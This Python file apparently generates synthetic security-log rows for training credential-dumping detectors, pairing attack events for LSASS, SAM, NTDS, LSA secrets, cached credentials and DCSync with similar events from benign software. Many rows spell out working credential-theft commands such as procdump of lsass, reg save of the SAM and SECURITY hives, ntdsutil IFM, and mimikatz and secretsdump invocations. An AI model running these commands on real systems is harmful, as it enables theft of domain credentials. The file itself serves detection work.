"""Credential dumping as other hosts and tools log it, each kind of event beside the same kind by ordinary software."""

from __future__ import annotations

from training.generators.attack_rows import parse_events

_EVENTS = parse_events(
    r"""
# LSASS memory: handles in Sysmon
dh-lsass-pf-unknown access +T1003.001: C:\Program Files«¦ (x86)»\‹Word›\‹name›.exe ;; ‹lsass› ;; «0x1010¦0x1438¦0x143a» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)|UNKNOWN(‹hex›)|UNKNOWN(‹hex›)
dh-lsass-pf-minidump access +T1003.001: C:\Program Files\«‹Word›\‹name›¦Common Files\‹name›¦7-Zip\7zG».exe ;; ‹lsass› ;; «0x1fffff¦0x1f3fff» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\SYSTEM32\dbgcore.DLL|C:\Windows\SYSTEM32\dbgcore.DLL|UNKNOWN(‹hex›)
dh-lsass-comsvcs-trace access +T1003.001: ‹sys›\rundll32.exe ;; ‹lsass› ;; «0x1fffff¦0x1410» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\comsvcs.dll|C:\Windows\System32\rundll32.exe|C:\Windows\System32\KERNEL32.DLL
dh-lsass-comsvcs-renamed access +T1003.001: ‹own› ;; ‹lsass› ;; «0x1fffff¦0x1f3fff» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\comsvcs.dll|‹ownplace›\‹name›.exe
dh-lsass-snapshot access +T1003.001: «‹own›¦‹sys›\rundll32.exe» ;; ‹lsass› ;; «0x1fffff¦0x14c0¦0x1080¦0x10c0» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\KERNEL32.DLL|C:\Windows\System32\dbgcore.dll|‹ownplace›\‹name›.«exe¦dll»
dh-lsass-direct-call access +T1003.001: ‹own› ;; ‹lsass› ;; «0x1010¦0x1410¦0x1fffff» ;; ‹ownplace›\‹name›.exe|‹ownplace›\‹name›.exe|C:\Windows\System32\KERNEL32.DLL
dh-lsass-silent-exit access +T1003.001: ‹own› ;; ‹lsass› ;; «0x1400¦0x1440¦0x1000» ;; C:\Windows\System32\ntdll.dll|‹ownplace›\«LsassSilentProcessExit¦silentexit¦nanodump.x64».exe|C:\Windows\System32\KERNEL32.DLL
dh-lsass-mask-1478 sysmon +T1003.001: 10 ;; SourceImage=«‹ownplace›\‹name›.exe¦C:\Users\‹user›\Downloads\‹name›\‹name›.exe» ;; TargetImage=‹lsass› ;; GrantedAccess=«0x1478¦0x147a¦0x1418» ;; CallTrace=C:\Windows\SYSTEM32\ntdll.dll+9d«234¦4c4¦1e4»|UNKNOWN(0000‹hex›)
dh-lsass-wmi-host access +T1003.001: ‹s32›\wbem\WmiPrvSE.exe ;; ‹lsass› ;; «0x1fffff¦0x1010» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)|C:\Windows\System32\dbghelp.dll|UNKNOWN(‹hex›)
dh-lsass-svchost-shell access +T1003.001: ‹s32›\svchost.exe ;; ‹lsass› ;; «0x1010¦0x1fffff» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)|UNKNOWN(‹hex›)|C:\Windows\System32\dbgcore.DLL|UNKNOWN(‹hex›)
dh-lsass-go-tool sysmon +T1003.001: 10 ;; SourceProcessId=‹pid› ;; SourceImage=‹ownplace›\«chisel¦agent¦‹name›_amd64¦sliver_‹name›».exe ;; TargetProcessId=6‹n› ;; TargetImage=‹lsass› ;; GrantedAccess=«0x1fffff¦0x1410» ;; SourceUser=NT AUTHORITY\SYSTEM ;; TargetUser=NT AUTHORITY\SYSTEM
# LSASS memory: handles in Security
dh-4656-full security +T1003.001: 4656 ;; ObjectServer=Security ;; ObjectType=Process ;; ObjectName=‹lsass_device› ;; AccessList=%%1537↵%%1538↵%%1539↵%%1540↵%%1541↵%%4480↵%%4481↵%%4482↵%%4484↵%%4485 ;; AccessMask=0x1fffff ;; ProcessName=‹own›
dh-4656-read-memory security +T1003.001: 4656 ;; ObjectType=Process ;; ObjectName=‹lsass_device› ;; AccessList=%%4484↵%%4490 ;; AccessMask=«0x1410¦0x410» ;; ProcessName=«‹own›¦‹sys›\rundll32.exe¦‹ps›» ;; Keywords=0x8020000000000000
dh-4663-read-memory security +T1003.001: 4663 ;; ObjectServer=Security ;; ObjectType=Process ;; ObjectName=‹lsass_device› ;; AccessList=%%4484 ;; AccessMask=0x10 ;; ProcessName=«‹own›¦C:\Windows\«Temp¦Tasks»\‹letters8›.exe» ;; ResourceAttributes=-
dh-4656-failed security +T1003.001: 4656 ;; ObjectType=Process ;; ObjectName=‹lsass_device› ;; AccessList=%%4484↵%%4485↵%%4488 ;; AccessMask=«0x143a¦0x1438» ;; ProcessName=«‹ps›¦‹ownplace›\‹name›.exe» ;; Keywords=0x8010000000000000 ;; PrivilegeList=SeDebugPrivilege
dh-4656-duplicated security +T1003.001: 4656 ;; ObjectServer=Security ;; ObjectType=Process ;; ObjectName=‹lsass_device› ;; AccessMask=«0x40¦0x1478» ;; AccessList=%%4486 ;; ProcessName=‹ownplace›\«HandleKatz¦nanodump¦‹name›».exe ;; PrivilegeList=SeDebugPrivilege
# LSASS memory: dump files
dh-file-comsvcs file +T1003.001: ‹sys›\rundll32.exe ;; ‹ownplace›\«lsass¦lsass_‹n›¦‹name›_lsass».«dmp¦bin¦log¦png»
dh-file-taskmgr file +T1003.001: ‹s32›\Taskmgr.exe ;; C:\Users\‹user›\AppData\Local\Temp\«lsass¦lsass (2)¦lsass (3)».DMP
dh-file-procdump-dated sysmon +T1003.001: 11 ;; Image=‹ownplace›\«procdump64¦pd¦p».exe ;; TargetFilename=‹ownplace›\lsass.exe_2‹n›0‹n›1‹n›_1‹n›42.dmp ;; User=NT AUTHORITY\SYSTEM
dh-file-silent-exit file +T1003.001: ‹s32›\WerFault.exe ;; ‹ownplace›\lsass.exe-(PID-‹pid›)-‹pid›‹pid›\lsass.exe-(PID-‹pid›).dmp
dh-file-pypykatz file +T1003.001: «C:\Python31«0¦1»\python.exe¦‹own›» ;; ‹ownplace›\«lsass_parsed¦mimikatz¦sekurlsa_‹name›¦logonpasswords».«txt¦json¦log»
dh-file-proc-hacker sysmon +T1003.001: 11 ;; Image=C:\«Program Files\«Process Hacker 2\ProcessHacker¦SystemInformer\SystemInformer»¦Users\‹user›\Desktop\procexp64».exe ;; TargetFilename=C:\Users\‹user›\«Desktop¦Documents¦AppData\Local\Temp»\lsass.exe«.dmp¦_240‹n›.dmp¦.DMP»
dh-file-kirbi-minidump file +T1003.001: ‹own› ;; «C:\Windows\System32¦‹ownplace›»\«mimilsa.log¦kiwissp.log¦lsass_minidump.dmp¦SAMDUMP_lsass.dmp»
# LSASS memory: modules, threads, registry
dh-load-unsigned-in-lsass-dump load +T1003.001: ‹sys›\«rundll32¦regsvr32».exe ;; ‹ownplace›\«nanodump¦minidump¦lsadump¦sekurlsa¦mimilib¦dumplsass_‹name›».«dll¦ocx»
dh-thread-loadlibrary thread +T1003.001: ‹own› ;; ‹lsass› ;; C:\Windows\System32\KERNEL32.DLL ;; «LoadLibraryA¦LoadLibraryW»
dh-thread-minidump thread +T1003.001: «‹own›¦‹ps›¦‹sys›\rundll32.exe» ;; ‹lsass› ;; C:\Windows\System32\«dbghelp¦dbgcore».dll ;; MiniDumpWriteDump
dh-thread-silent-exit thread +T1003.001: ‹own› ;; ‹lsass› ;; C:\Windows\System32\ntdll.dll ;; RtlReportSilentProcessExit
dh-exit-monitor-key value +T1003.001: «‹own›¦‹reg›¦‹ps›» ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe\LocalDumpFolder ;; ‹ownplace›
dh-exit-monitor-mode value +T1003.001: «‹own›¦‹reg›» ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe\«ReportingMode¦DumpType» ;; DWORD (0x00000002)
dh-exit-flag process +T1003.001: @ ;; reg«.exe¦» add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe" /v LocalDumpFolder /t REG_SZ /d ‹ownplace› /f ;; ‹cmd›
dh-localdumps value +T1003.001: «‹own›¦‹reg›¦‹ps›» ;; HKLM\SOFTWARE\Microsoft\Windows\Windows Error Reporting\LocalDumps\lsass.exe\DumpFolder ;; ‹ownplace›
# LSASS memory: processes, scripts, guards
dh-process-procdump process +T1003.001: @ ;; ‹ownplace›\«procdump64¦pd64¦‹name›».exe -accepteula «-r ¦-mm ¦»-ma «lsass¦lsass.exe» ‹ownplace›\‹name›.dmp ;; «‹cmd›¦‹ps›»
dh-process-renamed sysmon +T1003.001: 1 ;; Image=‹own› ;; OriginalFileName=procdump ;; CommandLine=‹name›.exe -accepteula -64 -ma lsass.exe ‹name›.log ;; ParentImage=‹cmd›
dh-process-nanodump process +T1003.001: @ ;; ‹ownplace›\«nanodump.x64¦nd¦‹name›».exe «--fork --write¦--silent-process-exit¦--snapshot --valid --write¦-sll --write¦--duplicate --write» ‹ownplace›\‹name›.«dmp¦docx» ;; «‹cmd›¦‹own›»
dh-process-createdump process +T1003.001: @ ;; "C:\Program Files\dotnet\shared\Microsoft.NETCore.App\«5.0.‹n›¦7.0.‹n›»\createdump.exe" -u -f ‹ownplace›\lsass.dmp ‹pid› ;; «‹cmd›¦‹ps›»
dh-process-rdrleak process +T1003.001: @ ;; powershell -c "rdrleakdiag.exe /p (Get-Process lsass).Id /o ‹ownplace› /fullmemdmp /«wait 1¦snap»" ;; ‹cmd›
dh-script-minidump log +T1003.001: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; MessageTotal=1 ;; ScriptBlockText=$p = Get-Process lsass; $f = New-Object IO.FileStream("‹ownplace›\‹name›.dmp", 'Create'); $m = $WERNativeMethods.GetMethod('MiniDumpWriteDump', $Flags); $m.Invoke($null, @($p.Handle, $p.Id, $f.SafeFileHandle, [UInt32]2, [IntPtr]::Zero)) ;; Path=
dh-script-4103 log +T1003.001: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4103 ;; Payload=CommandInvocation(«Out-Minidump¦Invoke-Mimikatz»): ParameterBinding(«Out-Minidump¦Invoke-Mimikatz»): name="«Process¦Command»"; value="«System.Diagnostics.Process (lsass)¦sekurlsa::logonpasswords»" ;; ContextInfo=Host Application = powershell.exe
dh-found-nanodump found +T1003.001: HackTool:«Win64/NanoDump.«A¦B¦LK!MTB»¦Win64/Dumpert.«A¦C»¦Win32/LsassDumper!MSR¦Win64/HandleKatz.A» ;; file:_‹ownplace›\«nanodump.x64¦dumpert¦HandleKatz_‹n›¦lsassdump_‹name›».«exe¦dll¦o» ;; «‹cmd›¦C:\Windows\explorer.exe¦‹own›»
dh-found-dumpfile found +T1003.001: «Trojan:Win32/LsassDump.B¦HackTool:Win32/LsassDmp!pz¦Behavior:Win32/LsassDump.SA» ;; file:_‹ownplace›\lsass«¦_‹pid›».dmp ;; «‹sys›\rundll32.exe¦‹s32›\Taskmgr.exe¦‹own›»
# SAM
dh-sam-key-own security +T1003.002: «4656¦4663» ;; ObjectServer=Security ;; ObjectType=Key ;; ObjectName=\REGISTRY\MACHINE\SAM\SAM\Domains\Account\Users\000001F«4¦5» ;; AccessList=%%4432↵%%4435 ;; AccessMask=0x9 ;; ProcessName=‹own›
dh-sam-file-handle security +T1003.002: «4656¦4663» ;; ObjectType=File ;; ObjectName=C:\Windows\System32\config\«SAM¦RegBack\SAM» ;; AccessList=%%4416 ;; AccessMask=0x1 ;; ProcessName=«‹own›¦‹ps›¦‹cmd›¦‹sys›\esentutl.exe»
dh-sam-save-quoted process +T1003.002: @ ;; reg.exe save "HKEY_LOCAL_MACHINE\SAM" "‹ownplace›\‹name›.«hiv¦log¦dat»" «/y¦/reg:64 /y» ;; «‹cmd›¦‹ps›»
dh-sam-save-remote process +T1003.002: @ ;; reg save \\‹server›\HKLM\sam ‹ownplace›\‹host›_sam.hiv ;; ‹cmd›
dh-sam-export process +T1003.002: @ ;; «reg export HKLM\sam ‹ownplace›\‹name›.reg /y¦regedit.exe /e ‹ownplace›\‹name›.reg HKEY_LOCAL_MACHINE\SAM» ;; «‹cmd›¦‹ps›»
dh-sam-save-4688 security +T1003.002: 4688 ;; NewProcessName=‹reg› ;; CommandLine=«reg  save hklm\SAM s¦"C:\Windows\system32\reg.exe" save hklm\sam sam.hive¦reg.exe SAVE HKLM\SAM 1.tmp» ;; ParentProcessName=«‹cmd›¦‹ps›¦‹own›» ;; TokenElevationType=%%1937
dh-sam-esentutl process +T1003.002: @ ;; esentutl.exe /y /vss ‹config›\SAM /d ‹ownplace›\‹name›.«dat¦hiv» ;; «‹cmd›¦‹ps›»
dh-sam-copy-shadow process +T1003.002: ‹cmd› ;; cmd«.exe¦» /c copy ‹vss›\Windows\System32\config\SAM ‹ownplace›\‹name› ;; «‹ps›¦‹own›¦‹s32›\services.exe»
dh-sam-file-reg file +T1003.002: ‹reg› ;; ‹ownplace›\«sam¦SAM¦sam‹n›¦hklm_sam».«hive¦hiv¦save¦dump¦log»
dh-sam-file-shadow sysmon +T1003.002: 11 ;; Image=«‹own›¦‹sys›\esentutl.exe¦‹ps›» ;; TargetFilename=‹ownplace›\«SAM¦SAM.hive¦config\SAM» ;; User=‹domain›\‹user›
dh-sam-file-impacket file +T1003.002: C:\«Python39\python¦Tools\nxc¦Users\‹user›\AppData\Local\Temp\netexec».exe ;; ‹ownplace›\«‹host›_‹ip›.sam¦‹ip›.sam¦‹host›.sam»
dh-sam-share-copy security +T1003.002: 5145 ;; ObjectType=File ;; IpAddress=‹ip› ;; ShareName=\\*\C$ ;; ShareLocalPath=\??\C:\ ;; RelativeTargetName=Windows\System32\config\«SAM¦RegBack\SAM» ;; AccessMask=0x120089
dh-sam-key-read-12 sysmon +T1003.002: 12 ;; EventType=CreateKey ;; Image=«‹own›¦‹ps›» ;; TargetObject=HKLM\SAM\SAM\Domains\Account\Users\Names«¦\‹user›»
dh-sam-script-bootkey log +T1003.002: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=«1¦2» ;; ScriptBlockText=function Get-BootKey { $s = [string]::Join("", $("JD","Skew1","GBG","Data" | %{ Get-RegKeyClass "HKLM" "SYSTEM\CurrentControlSet\Control\Lsa\$_" })) }; function Get-UserHashes($u, [byte[]]$hbootkey) { $u.V[0xAC..0xAF] } ;; Path=
dh-sam-script-dump log +T1003.002: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; ScriptBlockText=Get-ItemProperty -Path 'HKLM:\SAM\SAM\Domains\Account\Users\*' -Name V | ForEach-Object { [BitConverter]::ToString($_.V) } | Out-File ‹ownplace›\‹name›.txt
dh-sam-4103 log +T1003.002: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4103 ;; Payload=CommandInvocation(Copy-Item): ParameterBinding(Copy-Item): name="Path"; value="‹vss›\Windows\System32\config\SAM" ParameterBinding(Copy-Item): name="Destination"; value="‹ownplace›"
dh-sam-raw sysmon +T1003.002: 1 ;; Image=‹own› ;; CommandLine=‹name›.exe /FileNamePath:C:\Windows\System32\config\SAM /OutputPath:‹ownplace› ;; ParentImage=‹cmd› ;; OriginalFileName=RawCopy.exe
dh-sam-found found +T1003.002: «HackTool:Win32/«PWDump.«D¦L»¦SAMDump.B»¦Behavior:Win32/SAMHiveSave.A!attk» ;; «file:_‹ownplace›\«PwDump8¦samdump_‹n›».exe¦CmdLine:_C:\Windows\System32\reg.exe save HKLM\SAM ‹ownplace›\‹name›» ;; «‹cmd›¦‹ps›»
# NTDS
dh-ntds-ifm process +T1003.003: @ ;; ntdsutil«.exe¦» "«activate instance¦ac in» ntds" "ifm" "create «full¦sysvol full» ‹ownplace›\‹name›" «q q¦quit quit» ;; «‹cmd›¦‹ps›¦‹own›»
dh-ntds-ifm-4688 security +T1003.003: 4688 ;; NewProcessName=‹s32›\ntdsutil.exe ;; CommandLine=ntdsutil snapshot "activate instance ntds" create "mount ‹guid›" quit quit ;; ParentProcessName=‹cmd›
dh-ntds-diskshadow process +T1003.003: ‹s32›\diskshadow.exe ;; diskshadow.exe -s ‹ownplace›\«ntds¦dc_ntds¦ntds_‹name›».«txt¦dsh» ;; «‹cmd›¦‹s32›\wsmprovhost.exe»
dh-ntds-diskshadow-child process +T1003.003: ‹cmd› ;; cmd.exe /c copy «z¦x¦s»:\Windows\NTDS\ntds.dit ‹ownplace›\ntds.dit ;; ‹s32›\diskshadow.exe
dh-ntds-vssadmin process +T1003.003: ‹cmd› ;; cmd.exe /c "vssadmin create shadow /for=C: && copy ‹vss›\windows\ntds\ntds.dit ‹ownplace›" ;; «‹ps›¦‹s32›\wbem\WmiPrvSE.exe»
dh-ntds-wbadmin process +T1003.003: @ ;; wbadmin start recovery -version:0‹n›/1‹n›/2024-10:‹n› -itemtype:file -items:C:\Windows\NTDS\ntds.dit -recoverytarget:‹ownplace› -notrestoreacl -quiet ;; ‹cmd›
dh-ntds-wbadmin-backup process +T1003.003: @ ;; «wbadmin start backup -backuptarget:\\‹ip›\share -include:C:\Windows\NTDS\ -quiet¦echo y | wbadmin start backup -backuptarget:\\‹ip›\smb -include:c:\windows\ntds» ;; ‹cmd›
dh-ntds-esentutl process +T1003.003: @ ;; esentutl«.exe¦» /y /vss c:\windows\ntds\ntds.dit /d ‹ownplace›\‹name›.«dit¦dat» ;; «‹cmd›¦‹ps›»
dh-ntds-robocopy process +T1003.003: @ ;; robocopy /b Z:\Windows\NTDS ‹ownplace› ntds.dit ;; «‹cmd›¦‹s32›\wsmprovhost.exe»
dh-ntds-ninja log +T1003.003: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; ScriptBlockText=Invoke-NinjaCopy -Path "C:\Windows\NTDS\ntds.dit" -LocalDestination "‹ownplace›\‹name›.dit" -ComputerName ‹server›
dh-ntds-vss-script log +T1003.003: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; ScriptBlockText=$s = (gwmi -List Win32_ShadowCopy).Create("C:\", "ClientAccessible"); $c = gwmi Win32_ShadowCopy | ? { $_.ID -eq $s.ShadowID }; cmd /c copy "$($c.DeviceObject)\Windows\NTDS\ntds.dit" ‹ownplace›
dh-ntds-parse log +T1003.003: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; ScriptBlockText=$k = Get-BootKey -SystemHivePath '‹ownplace›\SYSTEM'; Get-ADDBAccount -All -DBPath '‹ownplace›\ntds.dit' -BootKey $k | Format-Custom -View HashcatNT
dh-ntds-esent-created database +T1003.003: 325 ;; «ntdsutil¦lsass» ;; ‹ownplace›\‹name›\Active Directory\ntds.dit
dh-ntds-esent-detached database +T1003.003: 327 ;; «ntdsutil¦esentutl» ;; ‹ownplace›\«Active Directory\ntds.dit¦ntds.dit»
dh-ntds-8222-tool log +T1003.003: VSSAudit|Security|8222 ;; param1=S-1-5-21-‹pid›-‹pid›-‹pid›-1‹pid› ;; param2=‹domain›\‹user› ;; param3=0x‹pid› ;; param4=‹s32›\«ntdsutil¦dsdbutil».exe ;; param5=‹guid› ;; param7=‹server› ;; param8=C:\ ;; param9=\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy‹n›
dh-ntds-file-ifm sysmon +T1003.003: 11 ;; Image=‹s32›\«ntdsutil¦lsass».exe ;; TargetFilename=‹ownplace›\«ifm¦ad_‹name›¦ntds_‹n›»\Active Directory\ntds.dit ;; User=‹domain›\‹user›
dh-ntds-handle security +T1003.003: 4663 ;; ObjectType=File ;; ObjectName=«\Device\HarddiskVolumeShadowCopy‹n›\Windows\NTDS\ntds.dit¦C:\Windows\NTDS\ntds.dit» ;; AccessList=%%4416 ;; AccessMask=0x1 ;; ProcessName=«‹own›¦‹cmd›¦‹ps›»
dh-ntds-share security +T1003.003: 5145 ;; IpAddress=‹ip› ;; ShareName=\\*\C$ ;; ShareLocalPath=\??\C:\ ;; RelativeTargetName=«Windows\NTDS\ntds.dit¦Temp\‹name›\Active Directory\ntds.dit» ;; AccessMask=0x120089 ;; AccessList=%%4416
# LSA secrets
dh-secrets-save process +T1003.004: @ ;; reg«.exe¦» save «hklm\security¦"HKLM\SECURITY"¦HKEY_LOCAL_MACHINE\Security» ‹ownplace›\‹name›.«hiv¦sec¦log» «/y¦» ;; «‹cmd›¦‹ps›»
dh-secrets-query process +T1003.004: @ ;; reg query "HKLM\SECURITY\Policy\Secrets«¦\_SC_‹name›\CurrVal¦\DefaultPassword\CurrVal»" «/s¦/ve» ;; «‹cmd›¦‹own›»
dh-secrets-key security +T1003.004: «4656¦4663» ;; ObjectType=Key ;; ObjectName=\REGISTRY\MACHINE\SECURITY\Policy\Secrets\«_SC_‹name›¦DefaultPassword¦DPAPI_SYSTEM»\CurrVal ;; AccessList=%%4432 ;; AccessMask=0x1 ;; ProcessName=«‹own›¦‹ps›»
dh-secrets-12 key +T1003.004: «‹own›¦‹ps›¦‹reg›» ;; HKLM\SECURITY\Policy\Secrets\‹name›\«CurrVal¦OldVal¦CupdTime»
dh-secrets-lsadump process +T1003.004: @ ;; ‹own› "privilege::debug" "token::elevate" "lsadump::secrets" "exit" ;; «‹cmd›¦‹ps›»
dh-secrets-script log +T1003.004: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; ScriptBlockText=$k = 'HKLM:\SECURITY\Policy\Secrets'; Enable-TSDuplicateToken; Get-ChildItem $k | ForEach-Object { Get-TSLsaSecret -Key $_.PSChildName }
dh-secrets-file file +T1003.004: ‹reg› ;; ‹ownplace›\«security¦hklm_security¦SECURITY‹n›».«hiv¦save¦hive¦log»
# Cached domain credentials
dh-cache-mimikatz process +T1003.005: @ ;; ‹own› "token::elevate" "lsadump::cache" exit ;; «‹cmd›¦‹ps›»
dh-cache-query process +T1003.005: @ ;; reg query HKLM\SECURITY\Cache /v NL$«1¦2¦5» ;; «‹cmd›¦‹own›»
dh-cache-key security +T1003.005: 4663 ;; ObjectType=Key ;; ObjectName=\REGISTRY\MACHINE\SECURITY\Cache ;; AccessList=%%4432 ;; AccessMask=0x1 ;; ProcessName=«‹own›¦‹ps›¦‹reg›»
dh-cache-13 sysmon +T1003.005: 13 ;; EventType=SetValue ;; Image=‹own› ;; TargetObject=HKLM\SECURITY\Cache\«NL$1¦NL$Control¦NL$IterationCount» ;; Details=Binary Data
dh-cache-script log +T1003.005: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; ScriptBlockText=«Invoke-Mimikatz -Command '"token::elevate" "lsadump::cache"'¦Get-CachedDomainHash | ForEach-Object { "`$DCC2`$10240#$($_.User)#$($_.Hash)" }¦(Get-Item 'HKLM:\SECURITY\Cache').GetValue('NL$1') | Format-Hex»
dh-cache-found found +T1003.005: HackTool:«Win32/Cachedump.«B¦D»¦Win64/CacheDump!MSR¦Python/Cachedump.A» ;; file:_‹ownplace›\cachedump«¦64¦_‹name›».«exe¦py» ;; «‹cmd›¦C:\Windows\explorer.exe»
dh-cache-file file +T1003.005: ‹own› ;; ‹ownplace›\«mscash2¦dcc2_hashes¦‹host›.cached¦mscache»«¦.txt»
# Replication asked for by people and tools
dh-dcsync-user security +T1003.006: 4662 ;; SubjectUserSid=‹sid› ;; SubjectUserName=‹user› ;; SubjectDomainName=‹domain› ;; ObjectServer=DS ;; ObjectType=%{19195a5b-6da0-11d0-afd3-00c04fd930c9} ;; AccessMask=0x100 ;; Properties=%%7688↵{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}↵{19195a5b-6da0-11d0-afd3-00c04fd930c9}
dh-dcsync-both security +T1003.006: 4662 ;; SubjectUserSid=‹sid› ;; SubjectUserName=svc_«sql¦backup¦‹word›» ;; SubjectDomainName=‹domain› ;; ObjectType=domainDNS ;; ObjectName=‹dc› ;; AccessList=%%7688 ;; AccessMask=0x100 ;; Properties=Control Access↵{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}↵{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}
dh-dcsync-filtered security +T1003.006: 4662 ;; SubjectUserSid=S-1-5-21-‹pid›‹pid›-‹pid›‹pid›-‹pid›‹pid›-500 ;; SubjectUserName=Administrator ;; SubjectDomainName=‹domain› ;; ObjectServer=DS ;; OperationType=Object Access ;; AccessMask=0x100 ;; Properties=%%7688↵{89e95b76-444d-4c62-991a-0facbeda640c}
dh-dcsync-mimi process +T1003.006: @ ;; ‹own› "lsadump::dcsync /«domain:‹fqdn› /all /csv¦user:‹domain›\krbtgt¦dc:‹server› /user:Administrator»" exit ;; «‹cmd›¦‹ps›»
dh-dcsync-script log +T1003.006: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; ScriptBlockText=«Invoke-Mimikatz -Command '"lsadump::dcsync /user:‹domain›\krbtgt"'¦Get-ADReplAccount -SamAccountName krbtgt -Domain ‹domain› -Server ‹server›¦Invoke-DCSync -Users krbtgt,Administrator | Export-Csv ‹ownplace›\‹name›.csv»
dh-dcsync-4103 log +T1003.006: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4103 ;; Payload=CommandInvocation(Get-ADReplAccount): ParameterBinding(Get-ADReplAccount): name="All"; value="True" ParameterBinding(Get-ADReplAccount): name="Server"; value="‹server›" ;; ContextInfo=User = ‹domain›\‹user›
dh-dcsync-python process +T1003.006: @ ;; «python.exe ‹ownplace›\secretsdump.py -just-dc-«ntlm¦user krbtgt» ‹domain›/‹user›@‹ip› -hashes :‹hash›¦‹ownplace›\secretsdump.exe -just-dc ‹domain›/‹user›:‹pass›@‹server›» ;; ‹cmd›
dh-dcsync-file file +T1003.006: «‹ownplace›\secretsdump.exe¦C:\Python310\python.exe¦‹own›» ;; ‹ownplace›\«dcsync_‹domain›.txt¦dcsync.csv¦krbtgt_dcsync.log»
# Ordinary: handles on LSASS
near-dh-edr-read access: C:\Program Files\«CrowdStrike\CSFalconService¦SentinelOne\Sentinel Agent 23.‹n›\SentinelAgent¦Elastic\Endpoint\elastic-endpoint¦Cylance\Desktop\CylanceSvc».exe ;; ‹lsass› ;; «0x1410¦0x1010¦0x1fffff» ;; C:\Windows\System32\KERNELBASE.dll|C:\Program Files\«CrowdStrike\CSFalconService.exe¦Elastic\Endpoint\elastic-endpoint.exe»
near-dh-defender-read access: C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2‹pid›.‹n›-0\MsMpEng.exe ;; ‹lsass› ;; «0x101541¦0x1418¦0x1fffff» ;; C:\Windows\System32\KERNELBASE.dll|C:\ProgramData\Microsoft\Windows Defender\Definition Updates\‹guid›\mpengine.dll
near-dh-wersvc access: ‹s32›\svchost.exe ;; ‹lsass› ;; «0x1478¦0x1000¦0x1400» ;; C:\Windows\System32\KERNELBASE.dll|«c:\windows\system32\lsm.dll¦c:\windows\system32\sysmain.dll¦c:\windows\system32\pcasvc.dll¦c:\windows\system32\wersvc.dll»|C:\Windows\System32\RPCRT4.dll
near-dh-csrss access: ‹s32›\csrss.exe ;; ‹lsass› ;; 0x1fffff ;; C:\Windows\System32\basesrv.DLL|C:\Windows\System32\CSRSRV.dll|C:\Windows\System32\ntdll.dll
near-dh-wininit access: ‹s32›\wininit.exe ;; ‹lsass› ;; «0x1fffff¦0x1478» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\wininit.exe|C:\Windows\System32\KERNEL32.DLL
near-dh-wmi-read access: ‹s32›\wbem\WmiPrvSE.exe ;; ‹lsass› ;; «0x1410¦0x1400¦0x1000» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\wbem\cimwin32.dll|C:\Windows\System32\framedynos.dll
near-dh-vmtools access: C:\Program Files\VMware\VMware Tools\vmtoolsd.exe ;; ‹lsass› ;; «0x1410¦0x1400» ;; C:\Windows\System32\KERNELBASE.dll|C:\Program Files\VMware\VMware Tools\vmtools.dll
near-dh-ccm access: C:\Windows\CCM\CcmExec.exe ;; ‹lsass› ;; «0x1410¦0x1400» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\CCM\«CcmUtilLib¦mtrmgr».dll
near-dh-splunk access: C:\Program Files\SplunkUniversalForwarder\bin\«splunk-winevtlog¦splunkd¦splunk-perfmon».exe ;; ‹lsass› ;; «0x1410¦0x1000» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\perfproc.dll|C:\Windows\System32\pdh.dll
near-dh-lsm access: ‹s32›\lsm.exe ;; ‹lsass› ;; «0x1000¦0x1400» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\lsm.exe|C:\Windows\System32\RPCRT4.dll
near-dh-tanium sysmon: 10 ;; SourceImage=C:\Program Files (x86)\Tanium\Tanium Client\«TaniumClient¦TaniumCX».exe ;; TargetImage=‹lsass› ;; GrantedAccess=«0x1410¦0x1400¦0x1fffff» ;; SourceUser=NT AUTHORITY\SYSTEM
near-dh-qualys sysmon: 10 ;; SourceImage=C:\Program Files\Qualys\QualysAgent\QualysAgent.exe ;; TargetImage=‹lsass› ;; GrantedAccess=«0x1410¦0x1000» ;; CallTrace=C:\Windows\SYSTEM32\ntdll.dll+9d2‹n›|C:\Windows\System32\KERNELBASE.dll+2c1‹n›|C:\Program Files\Qualys\QualysAgent\QualysAgent.exe+1f‹n›
near-dh-taskmgr access: ‹s32›\Taskmgr.exe ;; ‹lsass› ;; «0x1000¦0x1400¦0x101000» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\Taskmgr.exe|C:\Windows\System32\KERNEL32.DLL
